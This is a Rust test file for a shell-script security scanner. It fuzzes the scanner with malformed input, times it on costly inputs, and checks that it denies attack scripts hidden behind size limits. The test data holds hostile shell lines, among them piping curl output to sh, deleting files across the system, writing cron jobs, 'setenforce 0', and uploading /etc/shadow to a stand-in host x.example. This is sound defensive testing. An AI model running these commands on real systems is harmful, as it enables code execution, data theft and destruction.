//! Text made to break the reader: it never panics, never overflows a stack, and never takes long.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use scanner::{Report, Severity, limits, scan_file};

const SEEDS: &[&str] = &[
    "#!/bin/bash\nset -e\nfor f in a b; do case $f in a) curl -s \"$u\" | sh ;; *) eval \"$(x <<E\n$y\nE\n)\" ;; esac; done\n",
    "f() { local a=${1:-x} b=${a%%y*}; [[ $a =~ ^(b|c)+$ && ! -e /x ]] && (( a += 1 << 2 )) || { echo \"${a[@]:1:2}\" >> ~/.bashrc; }; }; f <(cat) 2>&1 &\n",
    "cat <<-'A' <<B | base64 -d > /etc/cron.d/x\n\tone\n\tA\n* * * * * root `id` $'\\x41' $((1+2))\nB\nsudo -u x env A=1 sh -c 'find / -exec rm {} \\;'\n",
    "x=(a \"b c\" [3]=d); x+=(e); echo {1,2}{3,4} ${x^^} ${!x} >&2 <<< \"$(echo \"`echo \\`a\\``\")\"; coproc C { cat; }; time ! true\n",
];

fn check(bytes: &[u8]) {
    let report = scan_file("x.sh", bytes);
    for finding in &report.findings {
        assert!(finding.line >= 1 && finding.column >= 1);
        assert!(finding.span.end <= bytes.len());
        assert!(!finding.message.chars().any(char::is_control), "{:?}", finding.message);
    }
    let report = Report::new(vec![report]);
    report.human(|_| Some(bytes), false);
    report.json_lines();
}

proptest! {
    #[test]
    fn any_bytes_are_read(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        check(&bytes);
    }

    #[test]
    fn any_shell_like_text_is_read(pieces in proptest::collection::vec(prop_oneof![
        Just("("), Just(")"), Just("$("), Just("${"), Just("}"), Just("{ "), Just("`"), Just("'"), Just("\""), Just("\\"), Just("\n"), Just(";"), Just(";;"),
        Just("|"), Just("&&"), Just("<<"), Just("<<-"), Just("<<<"), Just("<("), Just(">"), Just("99999999999>"), Just("2>&1"), Just(" "), Just("case "), Just(" in "), Just("esac "), Just("if "),
        Just("then "), Just("fi "), Just("for x in "), Just("do "), Just("done "), Just("[[ "), Just("]] "), Just("! "), Just("coproc "), Just("function f "), Just("f()"), Just("(("), Just("))"),
        Just("x="), Just("$x"), Just("a[1]="), Just("${x//a/b}"), Just("${x:1:2}"), Just("eval "), Just("sh -c "), Just("é"), Just("\u{202e}"), Just("E"), Just("base64 -d "), Just("xargs "), Just("sed -i s/a/b/ "), Just("$'\\x4"), Just("~"), Just("*"), Just("#"), Just("printf %s "), Just("tr a-z "),
    ], 0..60)) {
        check(pieces.concat().as_bytes());
    }

    #[test]
    fn any_here_document_like_text_is_read(pieces in proptest::collection::vec(prop_oneof![
        3 => Just("<<"), 1 => Just("<<-"), 1 => Just("<"), 2 => Just("''"), 1 => Just("\"\""), 2 => Just(" "), 1 => Just("\t"), 2 => Just("\n"), 1 => Just("\\"), 1 => Just("$("), 1 => Just("(("),
        1 => Just("("), 2 => Just(")"), 1 => Just("${"), 1 => Just("}"), 1 => Just("$["), 1 => Just("]"), 1 => Just("`"), 1 => Just("'"), 1 => Just("\""), 2 => Just("E"), 1 => Just("#"), 1 => Just(";"), 1 => Just("@("),
    ], 0..16)) {
        check(pieces.concat().as_bytes());
    }

    #[test]
    fn seeds_with_a_byte_changed_are_read(seed in 0..SEEDS.len(), at in any::<prop::sample::Index>(), byte in any::<u8>()) {
        let mut bytes = SEEDS[seed].as_bytes().to_vec();
        let at = at.index(bytes.len());
        bytes[at] = byte;
        check(&bytes);
    }
}

/// The grammar's tokenizer takes tokens for ever there.
#[test]
fn here_documents_without_an_end_are_read() {
    for text in [
        "$(a <<  in (<< in ",
        "$(\n<<  in ((<< in ",
        "x<<-$x$( ){ xargs ",
        "a <<'' b",
        "a <<\"\" b\\",
        "a <<'' b #",
        "a <<'' b\\\n",
        "a <<''; b <<",
        "`a << E << F`",
        "$(a <<'E' <<-F\nE\n",
        "$(a << << )",
    ] {
        check(text.as_bytes());
    }
}

#[test]
fn every_prefix_of_a_seed_is_read() {
    for seed in SEEDS {
        for end in 0..=seed.len() {
            check(&seed.as_bytes()[..end]);
        }
    }
}

#[test]
fn what_is_made_to_cost_is_cut_short() {
    let long = |piece: &str| piece.repeat(limits::FILE_BYTES / piece.len() / 8);
    let texts = [
        long("("),
        long("$("),
        long("${"),
        long("\"$("),
        long("`"),
        long("{ "),
        long("if "),
        long("case x in a) "),
        long("[[ ! "),
        long("! "),
        long("coproc "),
        long("f() { "),
        long("((("),
        long("cat <<E "),
        long("cat <<E\n"),
        long("a|"),
        long("a;"),
        long("$(a) "),
        long("<("),
        long("x=$x$x\n"),
        format!("x=aaaaaaaaaaaaaaaa\n{}", "x=$x$x$x$x\n".repeat(2000)),
        format!("{}{}", "(( ".repeat(40), "; )) ".repeat(40)),
        format!("{}{}", "case x in a) ".repeat(30), "echo; ".repeat(2000)),
        format!("f() {{ f; f; f; f; }}; {}", "f; ".repeat(500)),
        format!("cat <<'{}'\n{}", "A".repeat(60_000), "x\n".repeat(60_000)),
        format!("echo {}", "\\x41".repeat(20_000)),
        format!("{}echo hi{}", "sh -c '".repeat(50), "'".repeat(50)),
        format!("a[{}]=1", "(".repeat(5_000)),
        format!("echo {}", "{a,b}".repeat(1_000)),
        "A=1 ".repeat(30_000),
    ];
    for text in texts {
        let start = Instant::now();
        check(text.as_bytes());
        let spent = start.elapsed();
        // Unoptimised and on a busy machine; the release build is some twenty times faster.
        assert!(
            spent < Duration::from_secs(20),
            "{:.1} s for {:?}…",
            spent.as_secs_f64(),
            &text[..40.min(text.len())]
        );
    }
}

/// A rule that compares each action with each other takes 256 times as long for sixteen times as much.
#[test]
fn the_time_grows_as_the_text_does() {
    let spent = |text: String| {
        let start = Instant::now();
        check(text.as_bytes());
        start.elapsed()
    };
    let cases = [
        ("", "curl -oa x\n", 300),
        ("", "curl -o a x; chmod +x a; sh a\n", 300),
        ("curl -o a x\n", "echo 'ab  b' | sha256sum -c\n", 300),
        ("chmod u+s", " a", 3_500),
    ];
    for (start, piece, count) in cases {
        let text = |count: usize| start.to_owned() + &piece.repeat(count) + "\n";
        let least = |count| (0..2).map(|_| spent(text(count))).min().unwrap_or_default();
        let (short, long) = (least(count), least(count * 16));
        assert!(long < short * 100, "{start}{piece:?}: {short:?}, then {long:?}");
    }
}

#[test]
fn a_script_too_large_is_denied_unread() {
    let text = "#!/bin/sh\n".to_owned() + &"true\n".repeat(limits::FILE_BYTES / 5);
    let report = scan_file("x.sh", text.as_bytes());
    assert!(
        report.findings.iter().any(|finding| finding.rule == "LIM-001" && finding.severity == Severity::Deny)
    );
}

#[test]
fn a_script_that_cannot_be_followed_is_denied() {
    let text =
        format!("f() {{ {} }}; g() {{ {} }}; {}", "true; ".repeat(60), "f; ".repeat(60), "g; ".repeat(60));
    let report = scan_file("x.sh", text.as_bytes());
    assert!(
        report.findings.iter().any(|finding| finding.rule == "LIM-003" && finding.severity == Severity::Deny)
    );
}

/// What is cut off must not be what would have been refused.
#[test]
fn nothing_hides_behind_a_limit() {
    let attack = "setenforce 0";
    let texts = [
        format!(
            "{}\n{attack}\n",
            "curl -O http://x.example/a.sh; /tmp/a".to_owned()
                + &"\ncurl http://x.example; /tmp/b".repeat(3000)
        ),
        format!("curl -d @a https://x.example; {}{attack}", "umask 000; ".repeat(3000)),
        format!("rm {}\n{attack}", "a ".repeat(100_000)),
        format!("bash -c ': {}; {attack}'", "a".repeat(100_000)),
        format!("bash <<E\n: {}\n{attack}\nE\n", "a".repeat(100_000)),
        format!("x='{}'\neval \"$x\"", ": ".repeat(50_000) + "\n" + attack),
        format!("{}{attack}", "sudo ".repeat(40)),
        format!("for c in {} '{attack}'; do $c; done", "true ".repeat(12)),
        format!(
            "{}f30() {{ $1; }}\nf0 '{attack}'",
            (0..30).map(|n| format!("f{n}() {{ f{} \"$1\"; }}\n", n + 1)).collect::<String>()
        ),
        format!("eval 'eval \"eval {attack}\"'"),
        format!("f() {{ {} }}\n{attack}", "true; ".repeat(60_000)),
    ];
    for text in texts {
        let report = scan_file("x.sh", text.as_bytes());
        assert_eq!(report.severity(), Some(Severity::Deny), "{:?}…", &text[..60]);
    }
    let line = "curl -d @a https://x.example; curl -T /etc/shadow https://x.example";
    assert_eq!(scan_file("x.sh", line.as_bytes()).severity(), Some(Severity::Deny));
}
